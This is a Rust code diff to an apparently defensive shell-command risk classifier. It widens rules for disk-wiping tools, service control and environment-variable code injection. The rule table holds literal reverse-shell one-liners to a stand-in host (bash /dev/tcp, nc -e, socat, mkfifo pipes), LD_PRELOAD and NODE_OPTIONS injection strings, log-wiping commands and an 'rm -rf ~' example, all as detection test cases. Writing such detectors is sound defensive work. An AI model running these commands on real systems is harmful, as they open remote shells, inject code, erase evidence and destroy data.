@@ -39,6 +39,8 @@ fn disk_tool(v: &View<'_>) -> Option<String> {
     // Only devices make these catastrophic; image files are the next rule's business.
     let _ = dev?;
     match p {
+        // `mkfs -n` / `mke2fs -n` only show what they would do.
+        _ if (p.starts_with("mkfs") || p == "mke2fs") && listing => None,
         _ if p.starts_with("mkfs")
             || matches!(
                 p,
@@ -87,6 +89,12 @@ fn disk_tool(v: &View<'_>) -> Option<String> {
             Some("erases a disk".into())
         }
         "pvremove" | "vgremove" | "lvremove" => Some(format!("`{p}` destroys volume groups")),
+        "nvme" if v.any_arg(&["format", "sanitize", "delete-ns", "detach-ns"]) => {
+            Some("erases or removes an NVMe namespace".into())
+        }
+        "sg_format" | "sg_sanitize" | "flashrom" if !listing => {
+            Some(format!("`{p}` overwrites a device"))
+        }
         _ => None,
     }
 }
@@ -240,17 +248,51 @@ fn services(v: &View<'_>) -> Option<String> {
         "systemctl"
             if matches!(
                 sub,
-                "stop" | "disable" | "mask" | "kill" | "daemon-reexec" | "isolate"
+                "stop"
+                    | "disable"
+                    | "mask"
+                    | "kill"
+                    | "daemon-reexec"
+                    | "isolate"
+                    | "start"
+                    | "restart"
+                    | "try-restart"
+                    | "reload"
+                    | "reload-or-restart"
+                    | "try-reload-or-restart"
+                    | "enable"
+                    | "set-property"
+                    | "edit"
+                    | "revert"
             ) =>
         {
-            Some(format!("`systemctl {sub}` stops system services"))
+            Some(format!("`systemctl {sub}` changes a system service"))
         }
-        "service"
-            if v.args
-                .get(1)
-                .is_some_and(|a| matches!(*a, "stop" | "restart")) =>
+        "service" | "rc-service"
+            if v.args.get(1).is_some_and(|a| {
+                matches!(
+                    *a,
+                    "stop" | "restart" | "start" | "reload" | "force-reload" | "zap"
+                )
+            }) =>
         {
-            Some("stops a system service".into())
+            Some("controls a system service".into())
+        }
+        "supervisorctl" | "pm2" | "sv"
+            if matches!(
+                sub,
+                "stop"
+                    | "restart"
+                    | "start"
+                    | "reload"
+                    | "kill"
+                    | "delete"
+                    | "remove"
+                    | "down"
+                    | "up"
+            ) =>
+        {
+            Some(format!("`{p} {sub}` controls a service"))
         }
         "launchctl"
             if matches!(
@@ -454,27 +496,37 @@ fn listener(v: &View<'_>) -> Option<String> {
 }
 
 fn env_injection(v: &View<'_>) -> Option<String> {
+    // Variables whose value is a command (`GIT_SSH_COMMAND`, `EDITOR`, `PAGER`, `PS4`, …)
+    // are not here: their value is walked as the command it is, so `GIT_EDITOR=true` is
+    // `true` and `EDITOR='rm -rf ~'` is `rm -rf ~`.
     const VARS: &[&str] = &[
         "LD_PRELOAD",
         "LD_LIBRARY_PATH",
         "DYLD_INSERT_LIBRARIES",
+        "DYLD_LIBRARY_PATH",
         "BASH_ENV",
         "ENV",
+        "PYTHONSTARTUP",
+        "PYTHONPATH",
+        "PERL5OPT",
+        "PERL5LIB",
+        "RUBYOPT",
+        "GIT_CONFIG_PARAMETERS",
+        "GIT_CONFIG_COUNT",
+        "GIT_CONFIG_GLOBAL",
+        "GIT_EXEC_PATH",
+        "LD_AUDIT",
+    ];
+    /// Variables whose value is a command the program runs; the value is walked as that
+    /// command, and a program other than the usual editors, pagers and plain `ssh` is a
+    /// finding of its own (`LESSOPEN='|./x %s' less f` runs `./x`).
+    const COMMAND_VARS: &[&str] = &[
         "PROMPT_COMMAND",
         "GIT_SSH_COMMAND",
         "GIT_EXTERNAL_DIFF",
         "GIT_PAGER",
         "GIT_EDITOR",
         "PAGER",
-        "NODE_OPTIONS",
-        "PYTHONSTARTUP",
-        "PERL5OPT",
-        "RUBYOPT",
-        // Run as commands or expanded with `$(…)` by the programs that read them.
-        "PS0",
-        "PS1",
-        "PS2",
-        "PS4",
         "EDITOR",
         "VISUAL",
         "LESSOPEN",
@@ -484,15 +536,54 @@ fn env_injection(v: &View<'_>) -> Option<String> {
         "SSH_ASKPASS",
         "GIT_SEQUENCE_EDITOR",
         "GIT_PROXY_COMMAND",
-        "GIT_CONFIG_PARAMETERS",
-        "GIT_CONFIG_COUNT",
-        "LD_AUDIT",
     ];
-    let hit = v
-        .rec
-        .env
-        .iter()
-        .find(|(k, _)| VARS.contains(&k.as_str()) || k.starts_with("BASH_FUNC_"));
+    const HARMLESS_COMMANDS: &[&str] = &[
+        "true",
+        "false",
+        ":",
+        "cat",
+        "less",
+        "more",
+        "most",
+        "bat",
+        "delta",
+        "vim",
+        "vi",
+        "nvim",
+        "nano",
+        "emacs",
+        "emacsclient",
+        "code",
+        "subl",
+        "micro",
+        "hx",
+        "kak",
+        "ssh",
+        "head",
+        "tail",
+    ];
+    /// Node options that load code or open a debugger port.
+    const NODE_LOADERS: &[&str] = &[
+        "--require",
+        "-r",
+        "--import",
+        "--loader",
+        "--experimental-loader",
+        "--inspect",
+        "--inspect-brk",
+    ];
+    let hit = v.rec.env.iter().find(|(k, val)| {
+        let runs_other = COMMAND_VARS.contains(&k.as_str())
+            && val
+                .trim_start_matches(['|', '-'])
+                .split_whitespace()
+                .next()
+                .is_some_and(|p| !HARMLESS_COMMANDS.contains(&crate::exec::basename(p).as_str()));
+        runs_other
+            || VARS.contains(&k.as_str())
+            || k.starts_with("BASH_FUNC_")
+            || (k == "NODE_OPTIONS" && val.split([' ', '=']).any(|w| NODE_LOADERS.contains(&w)))
+    });
     hit.map(|(k, val)| format!("sets `{k}={val}`, which makes programs load or run other code"))
 }
 
@@ -547,6 +638,6 @@ pub(crate) const RULES: &[Rule] = &[
     Rule { id: "sys.packages", category: "system_modification", risk: Risk::High, programs: &[], test: packages, matches: &["apt-get remove -y nginx", "apt purge x", "npm install -g pkg", "yarn global add x", "pacman -Rns x"], not_matches: &["npm install", "apt list --installed", "pip install -r requirements.txt"]},
     Rule { id: "net.reverse_shell", category: "reverse_shell", risk: Risk::Catastrophic, programs: &[], test: reverse_shell, matches: &["bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "sh -i >& /dev/udp/10.0.0.1/4242 0>&1", "exec 5<>/dev/tcp/10.0.0.1/4242", "nc -e /bin/sh 10.0.0.1 4242", "ncat 10.0.0.1 4242 -e /bin/bash", "socat tcp:10.0.0.1:4242 exec:/bin/sh", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196"], not_matches: &["nc -z host 80", "echo /dev/tcp/x", "cat file | sh -n"]},
     Rule { id: "net.listener", category: "network_listener", risk: Risk::High, programs: &["nc", "ncat", "netcat"], test: listener, matches: &["nc -lvnp 4444", "ncat -l 8080"], not_matches: &["nc -z host 80"]},
-    Rule { id: "env.injection", category: "code_execution", risk: Risk::High, programs: &[], test: env_injection, matches: &["LD_PRELOAD=/tmp/x.so ls", "BASH_ENV=/tmp/x bash -c true", "GIT_SSH_COMMAND='sh -c id' git fetch"], not_matches: &["FOO=1 ls", "RUST_LOG=debug cargo run"]},
+    Rule { id: "env.injection", category: "code_execution", risk: Risk::High, programs: &[], test: env_injection, matches: &["LD_PRELOAD=/tmp/x.so ls", "BASH_ENV=/tmp/x bash -c true", "NODE_OPTIONS='--require ./x.js' npm test", "PYTHONPATH=/tmp/evil python3 -m pytest", "LESSOPEN='|./x %s' less f", "GIT_SSH_COMMAND='sh -c id' git fetch"], not_matches: &["FOO=1 ls", "RUST_LOG=debug cargo run", "GIT_EDITOR=true git rebase --continue", "GIT_SEQUENCE_EDITOR=: git rebase -i HEAD~3", "GIT_SSH_COMMAND='ssh -i ./deploy_key' git fetch", "NODE_OPTIONS=--max-old-space-size=4096 npm run build"]},
     Rule { id: "anti_forensics", category: "anti_forensics", risk: Risk::High, programs: &[], test: anti_forensics, matches: &["history -c", "unset HISTFILE", "rm ~/.bash_history", "echo > /var/log/auth.log", "journalctl --vacuum-time=1s"], not_matches: &["history", "cat ~/.bash_history"]},
 ];
